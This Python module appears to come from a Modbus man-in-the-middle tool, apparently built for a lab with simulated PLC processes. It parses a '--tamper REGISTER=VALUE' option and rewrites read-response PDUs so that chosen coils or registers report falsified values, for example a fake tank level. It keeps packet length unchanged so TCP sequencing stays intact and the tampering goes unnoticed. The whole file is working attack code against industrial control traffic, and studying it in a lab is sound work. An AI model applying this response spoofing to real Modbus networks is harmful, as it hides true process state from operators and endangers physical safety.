"""What the MITM falsifies: the ``--tamper REGISTER=VALUE`` spec and the PDU rewrite (pure).

A :class:`TamperSpec` names one coil, discrete input or register by its register-map name or
``TABLE:ADDRESS``; :func:`tamper_pdu` puts its value into a read response that covers it,
never changing the response's length (so TCP sequence numbers stay right).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from common.errors import UserError
from common.modbus import EXCEPTION_BIT, ModbusRequest
from plc.registers import MAPS, READ_FUNCTION_TABLE, Table

TABLE_ALIASES = {
    "coil": Table.COIL, "co": Table.COIL, "c": Table.COIL,
    "discrete_input": Table.DISCRETE_INPUT, "di": Table.DISCRETE_INPUT,
    "input_register": Table.INPUT_REGISTER, "ir": Table.INPUT_REGISTER,
    "holding_register": Table.HOLDING_REGISTER, "hr": Table.HOLDING_REGISTER,
}


@dataclass(frozen=True)
class TamperSpec:
    """Which value to falsify in read responses: ``table[address] := value`` (raw).

    label: what the user typed before ``=`` (``level``, ``tank.level``, ``ir:2``).
    """

    label: str
    table: Table
    address: int
    value: int


def parse_tamper(text: str) -> TamperSpec:
    """``REGISTER=VALUE`` -> TamperSpec; UserError with a one-line reason otherwise.

    REGISTER: a register name from the PLC register maps (``level``), ``PROCESS.NAME`` when
    the name is ambiguous (``pressure.auto_mode``), or ``TABLE:ADDRESS`` with TABLE one of
    coil/co, discrete_input/di, input_register/ir, holding_register/hr (``ir:2``).
    VALUE: the raw value, 0..65535 for registers, 0 or 1 for bits (``level=1999`` shows
    199.9 cm, since the level's resolution is 0.1 cm).
    """
    label, sep, value_text = text.partition("=")
    label, value_text = label.strip(), value_text.strip()
    if not sep or not label or not value_text:
        raise UserError(f"--tamper {text!r}: expected REGISTER=VALUE")
    try:
        value = int(value_text, 0)
    except ValueError:
        raise UserError(f"--tamper {text!r}: value {value_text!r} is not an integer") from None
    if ":" in label:
        table_text, _, address_text = label.partition(":")
        table = TABLE_ALIASES.get(table_text.lower())
        if table is None:
            raise UserError(f"--tamper {text!r}: unknown table {table_text!r} (choose from "
                             "coil, discrete_input, input_register, holding_register)")
        if not address_text.isdigit() or not 0 <= int(address_text) <= 0xFFFF:
            raise UserError(f"--tamper {text!r}: address must be 0..65535")
        address = int(address_text)
    else:
        table, address = _resolve_register_name(text, label)
    high = 1 if table.is_bit else 0xFFFF
    if not 0 <= value <= high:
        raise UserError(f"--tamper {text!r}: value must be 0..{high} for a {table}")
    return TamperSpec(label=label, table=table, address=address, value=value)


def _resolve_register_name(text: str, label: str) -> tuple[Table, int]:
    process, dot, name = label.rpartition(".")
    maps = list(MAPS.values())
    if dot:
        if process not in MAPS:
            raise UserError(f"--tamper {text!r}: unknown process {process!r} (choose from "
                             f"{', '.join(MAPS)})")
        maps = [MAPS[process]]
    found = {(r.table, r.address) for m in maps for r in m.registers if r.name == name}
    if not found:
        raise UserError(f"--tamper {text!r}: no register named {name!r} (see "
                         "docs/registers.md, or use TABLE:ADDRESS)")
    if len(found) > 1:
        owners = [f"{m.process}.{name}" for m in maps if any(r.name == name
                                                             for r in m.registers)]
        raise UserError(f"--tamper {text!r}: {name!r} is ambiguous; use one of "
                         f"{', '.join(owners)}")
    return found.pop()


def tamper_pdu(pdu: bytes, request: ModbusRequest, spec: TamperSpec) -> bytes | None:
    """The response PDU with ``spec``'s value put in, or None when it does not cover it.

    Only successful reads of ``spec.table`` whose requested range includes ``spec.address``
    are rewritten; the length never changes.
    """
    if not pdu or pdu[0] & EXCEPTION_BIT or READ_FUNCTION_TABLE.get(pdu[0]) is not spec.table:
        return None
    if request.function != pdu[0] or request.address is None or request.count is None:
        return None
    index = spec.address - request.address
    if not 0 <= index < request.count or len(pdu) < 2:
        return None
    data = bytearray(pdu)
    n_bytes = data[1]
    if spec.table.is_bit:
        byte_at = 2 + index // 8
        if index // 8 >= n_bytes or byte_at >= len(data):
            return None
        mask = 1 << (index % 8)
        data[byte_at] = (data[byte_at] | mask) if spec.value else (data[byte_at] & ~mask)
    else:
        at = 2 + 2 * index
        if 2 * index + 2 > n_bytes or at + 2 > len(data):
            return None
        struct.pack_into(">H", data, at, spec.value)
    return bytes(data)

